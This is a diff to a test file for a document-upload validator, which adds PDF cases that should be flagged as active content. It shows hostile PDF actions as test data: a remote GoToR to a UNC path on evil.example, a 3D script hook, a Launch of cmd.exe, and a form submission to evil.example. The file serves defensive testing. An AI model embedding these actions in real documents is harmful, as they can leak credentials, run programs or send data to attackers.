@@ -173,6 +173,18 @@ const documents: Case[] = [
   ],
   ['a program to start', 'document', () => action('/S /Launch /F (cmd.exe)'), 'admin_upload_document_active'],
   [
+    'a document of another computer to open',
+    'document',
+    () => action('/S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit]'),
+    'admin_upload_document_active',
+  ],
+  [
+    'a model in space with a script',
+    'document',
+    () => pdf({ catalog: '/A << /Type /3D /Subtype /U3D /OnInstantiate 9 0 R >>' }),
+    'admin_upload_document_active',
+  ],
+  [
     'a form that sends',
     'document',
     () => action('/S /SubmitForm /F (http://evil.example)'),
